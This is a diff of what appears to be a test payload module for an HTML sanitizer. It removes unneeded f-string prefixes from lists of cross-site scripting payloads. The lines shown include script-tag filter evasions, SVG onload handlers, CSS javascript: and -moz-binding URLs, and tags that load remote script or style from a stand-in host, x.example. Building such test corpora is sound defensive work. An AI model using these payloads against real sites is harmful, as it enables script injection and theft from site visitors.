@@ -13,7 +13,7 @@ _MARKUP = [
     f"<SCRIPT>{RUN}</SCRIPT>",
     f"<scr<script>ipt>{RUN}</script>",
     f"<script src=data:text/javascript,{RUN}></script>",
-    f"<script/src=//x.example/a.js></script>",
+    "<script/src=//x.example/a.js></script>",
     f"<script\x0c>{RUN}</script\x0b>",
     f"<script>{RUN}//",
     f"--><script>{RUN}</script>",
@@ -68,7 +68,7 @@ _SVG = [
     f"<svg><set attributeName=onload to={RUN}>",
     f"</text><script>{RUN}</script>",
     "<svg><image href=//x.example/a>",
-    f"<svg><style>@import '//x.example'</style>",
+    "<svg><style>@import '//x.example'</style>",
 ]
 _ATTRIBUTES = [
     f'" onmouseover="{RUN}',
@@ -152,7 +152,7 @@ _STYLES = [
     f"url(javascript:{RUN})",
     "}body{background:url(//x.example/a)}",
     "@import '//x.example';",
-    f"-moz-binding:url(//x.example#a)",
+    "-moz-binding:url(//x.example#a)",
     f"behavior:url({RUN})",
     "100%;background:url(//x.example)",
 ]
